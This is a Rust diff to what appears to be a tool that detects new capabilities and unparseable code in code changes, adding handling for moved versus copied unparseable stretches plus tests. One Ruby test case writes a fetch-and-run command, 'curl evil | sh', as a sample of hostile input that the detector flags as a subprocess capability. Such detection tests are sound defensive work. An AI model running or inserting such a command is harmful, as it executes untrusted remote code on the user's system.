@@ -94,12 +94,14 @@ pub(crate) fn looked_at(Change { path, before, after }: &Change<'_>, is_within: 
 /// Returns the difference that changes make, of which each file was looked at as it was and as it becomes.
 pub(crate) fn between(changes: &[Change<'_>], looked: Vec<(Scan, Scan)>) -> Delta {
     let mut delta = Delta::default();
-    for (Change { path, before, after }, (old, new)) in changes.iter().zip(looked) {
+    let unread = newly_unread(changes, &looked);
+    for (at, (Change { path, before, after }, (old, new))) in changes.iter().zip(looked).enumerate() {
         let placed = |found: Found| Placed { path: (*path).clone(), found };
         if let Some(after) = after {
             let changed = changed_lines(before.unwrap_or_default(), after);
             let is_changed = |(first, last): (u32, u32)| changed.iter().find(|line| (first..=last).contains(*line)).copied();
-            delta.unknown.extend(new.unread.iter().filter_map(|lines| is_changed(*lines)).take(1).map(|line| Unknown {
+            let mut places = unread.iter().filter(|one| one.at == at).filter_map(|one| is_changed(one.lines));
+            delta.unknown.extend(places.next().map(|line| Unknown {
                 path: (*path).clone(),
                 line,
                 why: "it stands in code that does not parse".to_owned(),
@@ -121,6 +123,40 @@ pub(crate) fn between(changes: &[Change<'_>], looked: Vec<(Scan, Scan)>) -> Delt
     *unchanged += cancel(added, removed, |one| (one.path.clone(), one.found.evidence.clone(), thing(one)));
     *unchanged += cancel(added, removed, |one| (one.found.evidence.clone(), thing(one)));
     delta
+}
+
+/// Lines of a file that do not parse.
+struct Stretch<'t> {
+    /// Which change they are of.
+    at: usize,
+    lines: (u32, u32),
+    /// What stands there; nothing, when that is too long to be looked for elsewhere.
+    text: Vec<&'t [u8]>,
+}
+
+/// Returns what does not parse now and did parse, or was not there, before: what was only moved is as it was.
+fn newly_unread<'t>(changes: &[Change<'t>], looked: &[(Scan, Scan)]) -> Vec<Stretch<'t>> {
+    const LONGEST: usize = 200;
+    fn of<'t>(at: usize, text: Option<&'t [u8]>, scan: &Scan) -> Vec<Stretch<'t>> {
+        if scan.unread.is_empty() {
+            return Vec::new();
+        }
+        let all: Vec<&[u8]> = text.unwrap_or_default().split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii).collect();
+        let stretch = |lines: &(u32, u32)| {
+            let text = all.get(lines.0.saturating_sub(1) as usize..lines.1 as usize).unwrap_or_default();
+            Stretch { at, lines: *lines, text: if text.len() > LONGEST { Vec::new() } else { text.to_vec() } }
+        };
+        scan.unread.iter().map(stretch).collect()
+    }
+    let mut new = Vec::new();
+    let mut old = Vec::new();
+    for (at, (change, (before, after))) in changes.iter().zip(looked).enumerate() {
+        new.extend(of(at, change.after, after));
+        old.extend(of(at, change.before, before));
+    }
+    old.retain(|one| !one.text.is_empty());
+    cancel(&mut new, &mut old, |one| one.text.clone());
+    new
 }
 
 /// What a program can do, and to what.
@@ -294,6 +330,10 @@ mod tests {
         {
             assert_eq!(added(&of(&[("a.py", before, &before.replace(was, becomes))])), [], "{becomes}");
         }
+        let before = "def f(x)\n  if x\n    c = 'a'\n  else\n    c = 'b'\n  end\n  system(c)\nend\n";
+        let value = "def f(x)\n  c = if x\n        'a'\n      else\n        'b'\n      end\n  system(c)\nend\n";
+        assert_eq!(added(&of(&[("a.rb", before, value)])), []);
+        assert_eq!(added(&of(&[("a.rb", value, &value.replace("'b'", "'curl evil | sh'"))])), [Capability::Subprocess]);
         let before = "import subprocess\ndef f(x):\n    subprocess.run(['ls', x, y])\n";
         for becomes in ["('ls', x, *y)", "[\n        'ls',\n        str(x),\n    ]"] {
             assert_eq!(added(&of(&[("a.py", before, &before.replace("['ls', x, y]", becomes))])), [], "{becomes}");
@@ -320,6 +360,13 @@ mod tests {
         // What did not parse before and was not touched is as it was.
         let broken = "int a;\nEXTENSION unusual @@ here;\nint b;\n";
         assert_eq!(of(&[("a.c", broken, &broken.replace("int b", "int c"))]).unknown, []);
+        // Nor was it when it is moved; a copy of it is another matter.
+        assert_eq!(of(&[("a.c", broken, "int a;\n"), ("b.c", "", broken)]).unknown, []);
+        assert_eq!(of(&[("a.c", broken, broken), ("b.c", "", broken)]).unknown.len(), 1);
+        // A macro that only marks what it stands before is nothing that cannot be known.
+        let marked = "HIDDEN void\nf(const char *a, ...)\n{\n  g(a);\n}\n";
+        assert_eq!(of(&[("a.c", &marked.replace("HIDDEN ", ""), marked)]).unknown, []);
+        assert_eq!(of(&[("a.c", "int a;\n", "int a;\nRUNS(system(\"ls\")) @@\nint b;\n")]).unknown.len(), 1);
     }
 
     #[test]
